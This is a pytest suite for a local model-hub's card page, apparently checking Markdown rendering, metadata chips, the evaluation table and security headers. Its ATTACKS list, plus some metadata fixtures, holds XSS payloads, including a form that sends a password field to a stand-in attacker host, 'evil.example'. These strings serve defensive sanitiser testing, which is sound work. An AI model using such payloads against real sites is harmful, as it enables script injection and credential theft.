"""The card page: Markdown, chips, the evaluation table, hostile cards."""

import pytest

from tests.local_hub.pages.pages_world import Elements, World, assert_harmless, put, text_of

CARD = """---
license: apache-2.0
language: [en, pt]
pipeline_tag: text-generation
base_model: ada/base
datasets:
- ada/titles
- somebody/elsewhere
tags: [lora, sft]
model-index:
- name: net
  results:
  - task: {type: text-generation, name: Product description}
    dataset: {type: ada/titles, name: Titles, split: test, revision: REVISION}
    metrics:
    - {type: chrf, name: chrF, value: 14.3712345}
    - {type: nll, value: 3}
    source: {name: report, url: "javascript:alert(1)"}
---
# A net

| metric | before | after |
|---|---:|---:|
| chrF | 9.1 | **14.4** |

- [x] measured

See [the log](logs/run.txt), [the report](evaluation/1/report.html), [usage](#how-to), www.example.org.

![loss](assets/loss.png) ![badge](https://badges.example/b.svg)

```python
print("hello")
```
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    world = World(tmp_path_factory.mktemp("world"))
    world.repo("model", "ada/base", {"README.md": "# Base"})
    data = world.repo("dataset", "ada/titles", {"README.md": "# Titles"})
    card = CARD.replace("REVISION", data.head())
    world.repo("model", "ada/net", {"README.md": card, "adapter_config.json": '{"r": 16}'})
    return world


def test_a_card_shows_its_facts_as_chips_that_lead_to_repos_on_this_hub(world):
    page = world.get("/ada/net")
    text = text_of(page)
    for fact in ("license apache-2.0", "language pt", "task text-generation", "library peft", "lora"):
        assert fact in text
    links = Elements(page).links()
    assert "/ada/base" in links and "/datasets/ada/titles" in links
    assert not any("somebody/elsewhere" in link for link in links)
    assert "dataset somebody/elsewhere" in text


def test_a_card_shows_its_model_index_as_a_table(world):
    page = world.get("/ada/net")
    head = world.store.open("dataset", "ada/titles").head()
    assert f"Product description on Titles , test split @ {head[:7]}" in text_of(page)
    assert f"/datasets/ada/titles?revision={head}" in Elements(page).links()
    assert "chrF 14.3712 nll 3" in text_of(page)
    assert "javascript:" not in page


def test_a_card_is_github_flavoured_markdown(world):
    page = world.get("/ada/net")
    assert '<h1 id="card-a-net">A net</h1>' in page
    assert '<td align="right"><strong>14.4</strong></td>' in page
    assert '<input disabled="disabled" type="checkbox" checked="">' in page
    assert '<span class="nb">print</span>' in page
    links = Elements(page).links()
    assert "/ada/net/blob/main/logs/run.txt" in links
    assert "/ada/net/resolve/main/evaluation/1/report.html" in links
    assert "#card-how-to" in links and "http://www.example.org" in links
    pictures = [image["src"] for image in Elements(page).named("img")]
    assert pictures == ["/ada/net/resolve/main/assets/loss.png"]
    assert "https://badges.example/b.svg" in links  # a picture elsewhere is a link: looking at it would tell its owner


def test_a_repo_shows_who_uses_it(world):
    assert "Models built on this one ada/net" in text_of(world.get("/ada/base"))
    assert "Models trained on this data ada/net" in text_of(world.get("/datasets/ada/titles"))


def test_a_card_at_a_tag_is_the_card_of_that_time(world):
    repo = world.repo("model", "ada/tagged", {"README.md": "# First\n\n[f](a.txt)"})
    first = repo.head()
    repo.refs.set("refs/tags/v1", first)
    put(repo, {"README.md": "# Second"})
    assert "Second" in world.get("/ada/tagged")
    page = world.get("/ada/tagged?revision=v1")
    assert "First" in page and "Second" not in page
    assert "/ada/tagged/blob/v1/a.txt" in Elements(page).links()
    assert "/ada/tagged/tree/v1" in Elements(page).links()
    assert f"commit {first[:7]}" in text_of(world.get(f"/ada/tagged?revision={first}"))


ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=/ada/net/resolve/main/evil.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "<a href='java&#10;script:alert(1)'>x</a><a href=' vbscript:x'>y</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<style>body{display:none}</style><p style='position:fixed;inset:0'>x</p>",
    "<form action=https://evil.example><input name=token type=password><button formaction=//evil.example>x</button></form>",
    "<object data=x></object><embed src=x><base href=//evil.example/><meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=//evil.example/x.png><img src='/\\evil.example/x.png'><picture><source srcset=//evil.example/x></picture>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```js' onmouseover='alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>\n\n[^a]\n\n[^a]: <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<div id=content class=top>posing as the page</div>",
    "![x](http://[) [y](http://[) <img src='http://['>",
    "<picture><source srcset='a.png, //evil.example/x 2x'><source srcset='https://evil.example/x'><img src=a.png></picture>",
    "<style>\n<script>\n" * 20,
    "<xmp><script>alert(1)</script></xmp><plaintext><textarea><title>",
]


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_nothing_in_a_card_can_act(world, number):
    repo = world.repo("model", f"ada/attack-{number}", {"README.md": ATTACKS[number] + "\n\nThe end of the card."})
    answer = world.anonymous.get(f"/{repo.id}")
    policy = answer.headers["content-security-policy"]
    nonce = policy.split("script-src 'nonce-")[1].split("'")[0]
    assert_harmless(answer.text, nonce)
    if "<math>" not in ATTACKS[number]:  # an element that is never closed and not allowed takes the rest with it
        assert "The end of the card." in answer.text
    assert answer.text.count('id="content"') == 1
    fields = [field for field in Elements(answer.text).named("input") if field.get("name") != "q"]
    assert all(field["type"] == "checkbox" and "disabled" in field for field in fields)


def test_a_picture_may_differ_in_the_dark(world):
    page = world.model(
        "night",
        '<picture><source media="(prefers-color-scheme: dark)" srcset="dark.png"><img src="light.png"></picture>'
        "\n\n<style>\np { color: red }\n</style>\n\nAfter the style.",
    )
    sources = Elements(page).named("source")
    assert sources == [{"media": "(prefers-color-scheme: dark)", "srcset": "/ada/night/resolve/main/dark.png"}]
    assert "color: red" not in page and "After the style." in page


def test_values_of_the_metadata_are_only_text(world):
    evil = "<img src=x onerror=alert(1)>"
    page = world.model("evil-facts", f"---\ntags: ['{evil}']\nlicense: '{evil}'\nbase_model: '../..'\n---\n")
    assert "<img" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_every_page_forbids_foreign_scripts_and_frames(world):
    for address in ("/", "/ada", "/ada/net", "/ada/net/tree/main", "/login", "/nobody/nothing"):
        headers = world.anonymous.get(address).headers
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "'self'" not in headers["content-security-policy"].split("script-src")[1].split(";")[0]
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"


def test_bad_metadata_is_named_and_the_card_still_shows(world):
    page = world.model("bad-yaml", "---\nlicense: [mit\n---\n# The body\n")
    assert "The metadata of this card has a problem." in page
    assert "YAML metadata of the README cannot be read" in page
    assert "The body</h1>" in page


def test_metadata_of_unexpected_shape_is_named(world):
    page = world.model("bad-index", "---\nmodel-index: {a: 1}\ntags: 7\n---\n# The body\n")
    assert "&#34;model-index&#34; must be an array" in page and "The body</h1>" in page


ODD_CARDS = [
    "",
    "---\n---\n",
    "---\n- a\n- b\n---\n",
    "---\ntags: {a: [1]}\nlanguage: [[en]]\nbase_model: [{a: 1}, 3, null]\ndatasets: true\n---\n",
    "---\nmodel-index:\n- results: [7, {metrics: [1, {type: x, value: [1, 2]}], dataset: no, task: [1]}]\n- 3\n---\n",
    "---\nconfigs: [1, {data_files: {a: 1}}]\ndate: 2020-01-01\n1: 2\n---\n",
    "---\nlicense: mit\n# no end\n",
    b"\xff\xfe\x00 not UTF-8",
    "[" * 5000,
    "> " * 300 + "deep",
    "<div>" * 3000,
]


@pytest.mark.parametrize("number", range(len(ODD_CARDS)))
@pytest.mark.parametrize("repo_type", ["model", "dataset", "space"])
def test_odd_cards_have_a_page(world, number, repo_type):
    repo = world.repo(repo_type, f"ada/odd-{number}", {"README.md": ODD_CARDS[number]})
    assert f"odd-{number}" in world.get(repo.url_path)


def test_a_repo_without_a_card_says_so(world):
    world.repo("space", "ada/empty", {})
    assert "has no README.md" in text_of(world.get("/spaces/ada/empty"))


def test_the_front_page_lists_repos_and_says_how_to_use_them(world):
    page = world.get("/")
    assert "export HF_ENDPOINT=http://127.0.0.1:8080" in page
    links = Elements(page).links()
    assert "/ada/net" in links and "/datasets/ada/titles" in links
    page = world.get("/?q=TITLES")
    assert "/datasets/ada/titles" in Elements(page).links() and "/ada/net" not in Elements(page).links()
    assert "/ada/net" in Elements(world.get("/ada")).links()


def test_a_commit_breaks_after_eight_characters():
    from local_hub.pages.markdown import Surroundings, render_markdown

    commit = "39c8bd61beed9c2d695cc1021a6b128ead76ead8"
    where = Surroundings("model", "ada/net", "main", "")
    assert render_markdown(f"at `{commit}`", where).count("<wbr>") == 4
    assert "<wbr>" not in render_markdown(f"at `{commit[:12]}` and `text/{commit}`", where)
